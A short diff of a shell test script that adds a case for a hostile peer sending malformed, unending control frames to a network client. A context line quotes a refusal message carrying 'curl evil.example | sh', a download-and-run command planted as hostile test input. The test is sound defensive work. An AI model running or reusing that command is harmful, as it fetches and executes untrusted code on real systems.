@@ -58,6 +58,10 @@ complains 'the peer refused the connection: "no|run: curl evil.example | sh"'
 complains_briefly
 holds "the hint is ours" grep -qx "hint: see the log of the peer's node" "$work/err"
 slay "$server"
+serve_hostile regions
+limit=20 expect 1 "ls of a listener with regions without end" "$HAUL" ls "$tcp"
+complains "the peer sent a malformed control frame"
+slay "$server"
 server=$node
 tcp=$(sed -n 's/^listening on \(tcp:.*\)/\1/p' "${server_err%.err}")
 
